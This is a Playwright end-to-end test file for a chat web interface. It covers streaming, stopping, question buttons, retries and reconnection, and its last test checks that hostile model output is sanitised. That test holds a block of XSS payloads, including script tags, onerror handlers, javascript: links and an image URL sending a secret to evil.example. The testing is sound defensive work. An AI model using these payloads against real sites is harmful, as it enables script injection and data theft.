"""Turns of a model that streams slowly, asks, fails, and says hostile things."""

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.e2e.conftest import Complaints
from tests.e2e.site import Chat, Site
from tests.fakes.model_server import ModelServer
from tests.machine import until

pytestmark = pytest.mark.e2e

STORY = " ".join(f"word{n}" for n in range(60))


def test_an_answer_is_seen_while_it_is_written(scripted: Site, slow_model: ModelServer, page: Page) -> None:
    slow_model.reply(STORY)
    chat = scripted.enter(page)

    chat.say("tell me a story")

    expect(chat.draft).to_contain_text("word3")
    expect(chat.draft).not_to_contain_text("word59")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    expect(chat.answers).to_contain_text("word59")
    chat.rests()
    expect(chat.draft).to_be_empty()
    expect(page.get_by_text("word59")).to_have_count(1)


def test_stop_keeps_what_was_said(scripted: Site, slow_model: ModelServer, page: Page) -> None:
    slow_model.reply(STORY)
    chat = scripted.enter(page)
    chat.say("tell me a story")
    expect(chat.draft).to_contain_text("word3")

    page.get_by_role("button", name="Stop").click()

    chat.rests()
    expect(page.locator("#log .status:visible")).to_contain_text("Stopped before the end")
    expect(chat.answers).to_contain_text("word3")
    expect(chat.answers).not_to_contain_text("word59")
    expect(page.get_by_role("button", name="Stop")).to_be_hidden()


def test_a_question_has_a_button_for_each_option(scripted: Site, slow_model: ModelServer, page: Page, context: BrowserContext) -> None:
    slow_model.call_tools(("ask_user", {"question": "Which colour?", "options": ["Red", "Green"], "reason": "For the paint."})).reply(
        "Good."
    )
    chat = scripted.enter(page)
    other = Chat(context.new_page())
    other.page.goto(page.url)
    other.is_live()
    chat.say("paint the shed")
    question = page.get_by_label("A question for you")
    expect(question).to_contain_text("For the paint.")
    expect(page.get_by_text("Waiting for your answer")).to_be_visible()
    expect(page.locator("#log .tool .state")).to_have_text("waiting for you")

    question.get_by_role("button", name="Green").click()

    expect(question).to_contain_text("You answered: Green")
    expect(other.page.get_by_label("A question for you")).to_contain_text("You answered: Green")
    expect(other.page.get_by_role("button", name="Red")).to_have_count(0)
    expect(chat.answers.last).to_contain_text("Good.")


def test_words_answer_the_question_and_are_told_once(scripted: Site, slow_model: ModelServer, page: Page) -> None:
    slow_model.call_tools(("ask_user", {"question": "Which colour?", "options": ["Red", "Green"]})).reply("Good.")
    chat = scripted.enter(page)
    chat.say("paint the shed")
    expect(page.locator("#answering")).to_contain_text("Which colour?")

    chat.say("Blue")

    expect(page.get_by_label("A question for you")).to_contain_text("You answered: Blue")
    expect(chat.answers.last).to_contain_text("Good.")
    expect(page.locator("#log").get_by_text("Blue").filter(visible=True)).to_have_count(1)
    expect(page.locator("#answering")).to_be_hidden()


def test_a_failed_turn_can_be_tried_again(scripted: Site, slow_model: ModelServer, page: Page) -> None:
    slow_model.fail(401)
    chat = scripted.enter(page)
    chat.say("hello")
    problem = page.locator(".problem")
    expect(problem).to_be_visible()
    slow_model.reset().reply("Here I am.")

    problem.get_by_role("button", name="Try again").click()

    expect(chat.answers.last).to_contain_text("Here I am.")
    chat.rests()


def test_the_page_says_for_how_long_nothing_has_come(scripted: Site, slow_model: ModelServer, page: Page) -> None:
    slow_model.delay(23).reply("Here I am.")
    chat = scripted.enter(page)
    chat.say("hello")
    expect(page.locator("#activity")).to_have_text("Thinking…")

    expect(page.locator("#activity")).to_have_text("Thinking for 15 s…", timeout=22_000)
    expect(chat.answers.last).to_contain_text("Here I am.")


def test_the_page_says_that_it_is_tried_again(scripted: Site, slow_model: ModelServer, page: Page) -> None:
    slow_model.fail(503, retry_after=4).delay(4).reply("Here I am.")
    chat = scripted.enter(page)
    activity = page.locator("#activity")
    chat.say("hello")
    expect(activity).to_contain_text("overloaded or down just now; trying again in 4 s (2 of 5)")
    page.reload()
    chat.is_live()
    expect(activity).to_contain_text("overloaded or down just now; trying again")
    expect(activity).to_contain_text("trying again (2 of 5)")
    expect(chat.answers.last).to_contain_text("Here I am.")
    chat.rests()


def test_a_killed_web_process_loses_and_doubles_nothing(
    scripted: Site, slow_model: ModelServer, page: Page, complaints: Complaints
) -> None:
    slow_model.reply(STORY).reply("Second answer.")
    chat = scripted.enter(page)
    chat.say("tell me a story")
    expect(chat.draft).to_contain_text("word3")

    with complaints.about_the_network():
        scripted.program.kill("agentron web")
        expect(page.locator("#connection")).not_to_have_attribute("data-state", "live")
        chat.say("and then?")
        chat.is_live()

    expect(chat.answers).to_have_count(2)
    chat.rests()
    expect(chat.answers.first.locator(".prose")).to_have_text(STORY)
    expect(chat.said).to_have_count(2)
    shown = chat.entries()
    page.reload()
    chat.is_live()
    assert chat.entries() == shown


def test_what_was_typed_survives_a_reload(scripted: Site, page: Page) -> None:
    chat = scripted.enter(page)
    chat.box.press_sequentially("half a sent")

    page.reload()

    expect(chat.box).to_have_value("half a sent")


def test_a_revoked_session_is_told_so(scripted: Site, page: Page, context: BrowserContext) -> None:
    chat = scripted.enter(page)
    other = context.new_page()
    other.goto(page.url)
    other.get_by_role("button", name="Sign out").click()

    page.reload()

    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    expect(chat.box).to_have_count(0)


HOSTILE = """
<script>document.title = "owned"</script><img src=x onerror="document.title='owned'">
[click](javascript:document.title='owned') ![pixel](https://evil.example/p.png?secret=1)
<div hx-get="/logout/" hx-trigger="load">x</div> <svg onload="document.title='owned'">
[bank.example](https://evil.example/login) `<b>` <a href="https://evil.example" ping="https://evil.example">y</a>
<iframe src="https://evil.example"></iframe> &lt;script&gt; {{ secret }} {% load x %}
"""


def test_hostile_words_of_a_model_do_nothing(scripted: Site, slow_model: ModelServer, page: Page, context: BrowserContext) -> None:
    foreign: list[str] = []
    context.on(
        "request", lambda request: foreign.append(request.url) if not request.url.startswith((scripted.address, "ws", "data:")) else None
    )
    slow_model.call_tools(("ask_user", {"question": HOSTILE, "options": ["<img src=x onerror=alert(1)>", "no"]})).reply(HOSTILE)
    chat = scripted.enter(page)
    chat.say(HOSTILE)
    page.get_by_label("A question for you").get_by_role("button").first.click()

    expect(chat.answers.last).to_contain_text("evil.example")

    chat.rests()
    until(lambda: page.title() != "owned", 1)
    assert not foreign
    assert page.locator("#log :is(img, script, iframe, svg[onload], [hx-get])").count() == 0
    assert page.locator('#log a[href^="javascript"]').count() == 0
